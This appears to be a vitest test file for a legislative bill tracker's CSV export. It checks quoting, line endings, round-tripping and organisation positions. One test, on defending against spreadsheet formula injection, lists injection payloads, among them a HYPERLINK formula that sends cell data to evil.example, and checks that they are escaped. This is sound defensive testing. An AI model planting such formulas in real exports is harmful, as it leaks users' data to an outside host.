import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { csvColumns, exportCsv, spreadsheetCell } from "./csv";
import type { BillDetail, StatusEventOut } from "./schema";

// The export must survive a real CSV parser (csv-parse) unchanged, whatever the text holds:
// commas, quotes, line breaks, non-ASCII letters, emoji.

function bill(overrides: Partial<BillDetail> = {}): BillDetail {
  return {
    slug: "a-bill",
    url: "https://tracker.example/bills/a-bill",
    apiUrl: "https://tracker.example/api/v1/bills/a-bill",
    shortTitle: "A Bill",
    title: "A Bill",
    jurisdiction: "uk",
    numbers: ["HL Bill 1"],
    session: "2024–26 session",
    topics: [],
    region: null,
    stage: null,
    path: null,
    stageLabel: "No status recorded yet",
    outcome: "pending",
    phase: "legislature",
    status: "No status recorded yet",
    nextSteps: [],
    lastEventOn: null,
    verifiedOn: null,
    updatedAt: "2026-01-01T00:00:00.000Z",
    longTitle: null,
    sponsors: [],
    committees: [],
    summary: "",
    keyProvisions: [],
    officialLinks: [],
    editorialNote: null,
    paths: [],
    afterEnactment: [],
    ending: null,
    history: [],
    keyDates: [],
    provisions: [],
    positions: [],
    windows: [],
    corrections: [],
    links: { feed: "https://t.example/f", calendar: "https://t.example/c", embed: "https://t.example/e" },
    ...overrides,
  };
}

function event(description: string, note: string | null): StatusEventOut {
  return {
    id: "ev1",
    path: "first_house",
    stage: "first_reading",
    stageLabel: "First reading in the House of Commons",
    occurredOn: "2025-02-25",
    chamber: "commons",
    billNumber: null,
    attemptFailed: false,
    body: null,
    subject: null,
    provisions: null,
    relatedBill: null,
    description,
    vote: null,
    sourceUrl: "https://bills.parliament.uk/",
    sourceKind: "official",
    archiveUrl: null,
    note,
    recordedAt: "2025-02-26T09:00:00.000Z",
    correctsId: null,
    correctedById: null,
    status: "effective",
    retraction: null,
  };
}

function parseExport(text: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, skip_empty_lines: false }) as Record<string, string>[];
}

describe("exportCsv", () => {
  it("writes RFC 4180 with CRLF line ends and a UTF-8 byte-order mark", () => {
    const text = exportCsv([bill({ history: [event("Read, \"twice\"\nand referred", null)] })]);
    expect(text.startsWith("\uFEFFbill_slug,")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text).toContain('"Read, ""twice""\nand referred"');
    const [row] = parseExport(text);
    expect(Object.keys(row!)).toEqual([...csvColumns]);
    expect(row).toMatchObject({ description: 'Read, "twice"\nand referred', session: "2024–26 session", chamber: "commons" });
  });

  it("gives a bill without events one row, with empty event columns", () => {
    const rows = parseExport(exportCsv([bill()]));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ bill_slug: "a-bill", event_id: "", occurred_on: "" });
  });

  it("neutralises cells a spreadsheet would run as a formula, and nothing else", () => {
    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"];
    const rows = parseExport(exportCsv([bill({ title: formulas[0], history: formulas.map((text) => event(text, null)) })]));
    expect(rows.map((row) => row.description)).toEqual(formulas.map((text) => `'${text}`));
    expect(rows[0]?.bill_title).toBe(`'${formulas[0]}`);
    expect(spreadsheetCell("Passed 409–2 = a majority")).toBe("Passed 409–2 = a majority");
  });

  it("round-trips any other text through csv-parse unchanged", () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.string({ unit: "grapheme", maxLength: 40 }), fc.option(fc.string({ unit: "binary", maxLength: 40 }))), {
          minLength: 1,
          maxLength: 5,
        }),
        fc.string({ unit: "grapheme-composite", maxLength: 30 }),
        (events, title) => {
          // Formula-like cells are changed on purpose (the test above).
          fc.pre([title, ...events.flat()].every((text) => text === null || spreadsheetCell(text) === text));
          const rows = parseExport(exportCsv([bill({ title, history: events.map(([description, note]) => event(description, note)) })]));
          expect(rows.map((row) => [row.description, row.note === "" ? null : row.note])).toEqual(
            events.map(([description, note]) => [description, note === "" ? null : note]),
          );
          expect(rows.every((row) => row.bill_title === title)).toBe(true);
        },
      ),
      { numRuns: 200 },
    );
  });

  it("gives each organisation's current position on the bill, not its history, in every row of the bill", () => {
    const position = (id: string, name: string, stanceLabel: string, statedOn: string, current: boolean) => ({
      id,
      organisation: { name, url: null, isOwn: false },
      stance: "support" as const,
      stanceLabel,
      statement: "Said so.",
      sourceUrl: null,
      statedOn,
      recordedAt: `${statedOn}T09:00:00.000Z`,
      current,
    });
    const csv = exportCsv([
      bill({
        history: [event("First reading", null), { ...event("Second reading", null), id: "ev2" }],
        positions: [
          position("p3", "Coalition, Inc.", "Oppose", "2025-06-01", true),
          position("p2", "Another Org", "Neutral", "2025-05-01", true),
          position("p1", "Coalition, Inc.", "Support", "2025-03-01", false),
        ],
      }),
    ]);
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.current_positions)).toEqual([
      "Coalition, Inc.: Oppose (2025-06-01); Another Org: Neutral (2025-05-01)",
      "Coalition, Inc.: Oppose (2025-06-01); Another Org: Neutral (2025-05-01)",
    ]);
  });
});
